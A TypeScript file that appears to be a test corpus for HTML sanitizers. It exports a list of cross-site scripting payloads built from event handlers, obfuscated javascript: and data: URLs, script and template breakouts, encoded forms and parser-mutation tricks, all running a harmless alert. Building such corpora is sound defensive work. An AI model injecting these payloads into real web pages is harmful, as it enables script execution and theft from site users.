/** What is to run: it would open a dialog. */
const code = "alert('ran')";

/** Elements whose handler runs by itself, or as soon as somebody touches them; `@` is the handler. */
const handlers = `
<img src=x onerror=@>
<img src=x onerror=@ alt=y
<img/src=x/onerror=@/>
<img src=\`x\` onerror=@>
<img """><img src=x onerror=@>">
<image src=x onerror=@>
<svg onload=@>
<svg/onload=@>
<body onload=@>
<body onpageshow=@>
<video onerror=@><source></video>
<video src=x onerror=@></video>
<audio src=x onerror=@></audio>
<input autofocus onfocus=@>
<textarea autofocus onfocus=@></textarea>
<select autofocus onfocus=@></select>
<button autofocus onfocus=@>b</button>
<a href=x onmouseover=@>link</a>
<a id=x tabindex=1 onfocus=@></a>
<p onclick=@>t</p>
<div onpointerenter=@ style="position:fixed;inset:0">d</div>
<details open ontoggle=@><summary>s</summary></details>
<marquee onstart=@>m</marquee>
<object data=x onerror=@></object>
<embed src=x onload=@>
<iframe onload=@></iframe>
<iframe srcdoc=x onload=@></iframe>
<style onload=@></style>
<link rel=stylesheet href=x onerror=@>
<script src=x onerror=@></script>
<svg><animate attributeName=x dur=1s onbegin=@></svg>
<svg><set attributeName=x dur=1s onend=@></svg>
<svg><image href=x onerror=@></image></svg>
<svg><foreignObject><img src=x onerror=@></foreignObject></svg>
<math><mtext onclick=@>m</mtext></math>
<custom-element tabindex=1 autofocus onfocus=@>c</custom-element>
<table><td onpointerenter=@>t</td></table>
<li onmouseover=@>l</li>
<b onclick=@>b</b>
<sub onmouseover=@>s</sub>
<h2 onmouseover=@>h</h2>
<blockquote onmouseover=@>q</blockquote>
<em contenteditable autofocus onfocus=@>e</em>
<form id=x><input name=attributes><input name=innerHTML onfocus=@ autofocus></form>
<img name=body><img name=getElementById src=x onerror=@>
<p id=__proto__ onclick=@>p</p>
</p/onclick=@>
`;

/** Addresses that are code, with what is to hide it from whoever compares the beginning. */
const addresses = `
javascript:@
JaVaScRiPt:@
 javascript:@
&Tab;javascript:@
java&Tab;script:@
java&NewLine;script:@
java&#x0A;script:@
javascript&colon;@
&#106;avascript:@
&#x6A;&#x61;vascript:@
&#1;javascript:@
javascript://x.example/%0a@
javascript:/*--></title></style></textarea>*/@
vbscript:@
data:text/html,<script>@</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgncmFuJyk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=@>
feed:javascript:@
view-source:javascript:@
//x.example
file:///etc/passwd
ftp://x.example
x:@
`;

/** Places where an address is opened, or may be. */
const places = `
<a href="@">link</a>
<iframe src="@"></iframe>
<form action="@"><button>b</button></form>
<svg><a xlink:href="@"><text y=20>t</text></a></svg>
`;

/** Scripts, and what ends the element, the attribute or the text that they are put into. */
const scripts = `
<script>@</script>
<SCRIPT>@</SCRIPT>
<script >@</script >
<script/x>@</script>
<scr<script>ipt>@</scr</script>ipt>
<script>@
<script type=module>@</script>
<svg><script>@</script></svg>
<math><script>@</script></math>
<noscript><script>@</script></noscript>
<template><script>@</script></template>
<<script>@//<</script>
<script src=data:,@></script>
<script src=//x.example/x.js></script>
</script><script>@</script>
</title><script>@</script>
</textarea><script>@</script>
</style><script>@</script>
</noscript><script>@</script>
</template><script>@</script>
--><script>@</script>
]]><script>@</script>
"><script>@</script>
'><script>@</script>
';@//
";@//
\`;@//
*/@/*
\${@}
{{constructor.constructor("@")()}}
#{@}
<%= @ %>
[[@]]
</b><script>@</script><b>
&lt;script&gt;@&lt;/script&gt;
&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;
%3Cscript%3E@%3C/script%3E
\\u003cscript\\u003e@\\u003c/script\\u003e
+ADw-script+AD4-@+ADw-/script+AD4-
＜script＞@＜/script＞
<base href="javascript:@//">
<meta http-equiv=refresh content="0;url=javascript:@">
<object data="javascript:@"></object>
<button formaction="javascript:@">b</button>
<svg><use href="data:image/svg+xml,<svg id=x onload=@>#x"></use></svg>
<div style="background:url(javascript:@)">d</div>
<style>*{background:url("javascript:@")}</style>
`;

/** What one parser takes for text and the next one, after it was written out again, for elements. */
const mutations = `
<noscript><p title="</noscript><img src=x onerror=@>"></noscript>
<svg></p><style><a id="</style><img src=x onerror=@>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;"></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@></style></form>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=@ src>"></mtext></svg></mglyph></mi></math>
<svg><desc><noscript></desc></svg><img src=x onerror=@></noscript>
<svg><title><style><img src=x onerror=@></style></title></svg>
<xmp><img title="</xmp><img src=x onerror=@>"></xmp>
<noembed><img title="</noembed><img src=x onerror=@>"></noembed>
<noframes><img title="</noframes><img src=x onerror=@>"></noframes>
<plaintext><img src=x onerror=@>
<listing>&lt;img src=x onerror=@&gt;</listing>
<textarea><img title="</textarea><img src=x onerror=@>"></textarea>
<title><img title="</title><img src=x onerror=@>"></title>
<style><img title="</style><img src=x onerror=@>"></style>
<iframe><img title="</iframe><img src=x onerror=@>"></iframe>
<select><template><img src=x onerror=@></template></select>
<select><style></select><img src=x onerror=@></style>
<table><caption><svg><style></table><img src=x onerror=@></style></svg></caption></table>
<!--><img src=x onerror=@>-->
<!--!><img src=x onerror=@>
<!-- --!><img src=x onerror=@> -->
<![CDATA[<img src=x onerror=@>]]>
<?xml version="1.0"?><img src=x onerror=@>
<?xml-stylesheet href="javascript:@"?>
<!DOCTYPE x [<!ENTITY y "@">]><x>&y;</x>
`;

const linesOf = (text: string): string[] => text.split('\n').filter((line) => line !== '');

/** Strings that are known to run a script where a page takes them for HTML, for an address or for a template. */
export const scriptInjections: readonly string[] = [
  ...linesOf(handlers),
  ...linesOf(scripts),
  ...linesOf(mutations),
  ...linesOf(places).flatMap((place) =>
    linesOf(addresses).map((address) => place.replace('@', () => address)),
  ),
].map((text) => text.replaceAll('@', () => code));
